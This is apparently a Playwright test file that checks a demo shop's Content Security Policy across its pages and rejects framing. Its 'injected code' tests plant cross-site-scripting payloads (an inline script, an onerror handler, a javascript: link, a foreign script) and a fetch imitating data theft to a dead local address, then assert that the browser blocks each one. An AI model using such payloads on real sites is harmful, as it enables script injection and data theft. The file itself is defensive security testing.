import type { Page } from 'playwright-core'
import { afterAll, describe, expect, it } from 'vitest'
import { aVisitor } from '#tests/support/browser/browser.ts'
import { anAdministrator } from '#tests/support/given/builders.ts'
import { openDemoShop } from '#tests/support/shop/demo-shop.ts'

const { shop, browser, close } = await openDemoShop()
afterAll(close)

/** What the browser blocked on this visitor's pages, by directive and source. */
async function refusedOn(page: Page): Promise<() => string[]> {
  const refused: string[] = []
  await page.exposeFunction('tellRefused', (text: string) => refused.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell = Reflect.get(window, 'tellRefused')
      tell(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`)
    })
  })
  return () => refused
}

async function signedIn(page: Page): Promise<void> {
  const { token, email } = await anAdministrator(shop)
  await page.addInitScript(
    ([token = '', email = '']) => {
      sessionStorage.setItem('token', token)
      sessionStorage.setItem('email', email)
    },
    [token, email],
  )
}

describe('no page does anything that its policy refuses', () => {
  it.each([
    '/',
    '/products',
    '/category/laptops',
    '/product/apple-macbook-air-13-m4',
    '/cart',
    '/checkout',
    '/login',
    '/signup',
    '/orders',
    '/wishlist',
    '/contact',
    '/terms',
    '/payment-failed',
    '/no-such-page',
    '/admin',
    '/admin/products',
    '/admin/products/1',
  ])('%s', async (path) => {
    const { page, context } = await aVisitor(browser)
    await signedIn(page)
    const refused = await refusedOn(page)
    await page.goto(shop.url + path, { waitUntil: 'networkidle' })
    expect(refused()).toEqual([])
    await context.close()
  })
})

it('the API’s readable page works within its policy', async () => {
  const { page, context } = await aVisitor(browser)
  const refused = await refusedOn(page)
  await page.goto(`${shop.url}/api/docs/`)
  await expect
    .poll(() => page.locator('body').textContent(), { timeout: 30_000 })
    .toContain("Get the shop's public settings")
  // Its library tests whether it may use eval, and works without.
  expect(refused().filter((text) => !text.startsWith('script-src eval '))).toEqual([])
  await context.close()
})

describe('injected code', () => {
  it('does not run as an inline script, an attribute or an address', async () => {
    const { page, context } = await aVisitor(browser)
    const refused = await refusedOn(page)
    await page.route(`${shop.url}/login`, async (route) => {
      const reply = await route.fetch()
      const injected = '<script>window.taken = "by a script"</script>'
      await route.fulfill({
        response: reply,
        body: (await reply.text()).replace('</head>', `${injected}</head>`),
      })
    })
    await page.goto(`${shop.url}/login`)
    await page.getByRole('heading', { level: 1 }).waitFor()
    await page.evaluate(() => {
      const place = document.createElement('div')
      place.innerHTML = `<img src="/none.png" onerror="window.taken = 'by an attribute'"><a id="trap" href="javascript:void(window.taken = 'by an address')">x</a>`
      document.body.append(place)
      document.getElementById('trap')?.click()
      const script = document.createElement('script')
      script.src = 'http://127.0.0.1:9/elsewhere.js'
      document.body.append(script)
    })
    await expect
      .poll(() =>
        refused()
          .map((text) => text.split(' ')[0])
          .toSorted(),
      )
      .toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem', 'script-src-elem'])
    await expect.poll(() => page.evaluate(() => Reflect.get(window, 'taken'))).toBeUndefined()
    await context.close()
  })

  it('sends nothing to another site', async () => {
    const { page, context } = await aVisitor(browser)
    const refused = await refusedOn(page)
    await page.goto(`${shop.url}/login`)
    const isSent = await page.evaluate(() =>
      fetch('http://127.0.0.1:9/?stolen=1', { mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    )
    expect(isSent).toBe(false)
    await expect.poll(() => refused().join()).toContain('connect-src http://127.0.0.1:9/')
    await context.close()
  })
})

it('no other page shows the shop in a frame', async () => {
  const { page, context } = await aVisitor(browser)
  await page.goto('about:blank')
  await page.setContent(`<iframe src="${shop.url}/login"></iframe>`)
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toEqual(['about:blank', 'chrome-error://chromewebdata/'])
  await context.close()
})
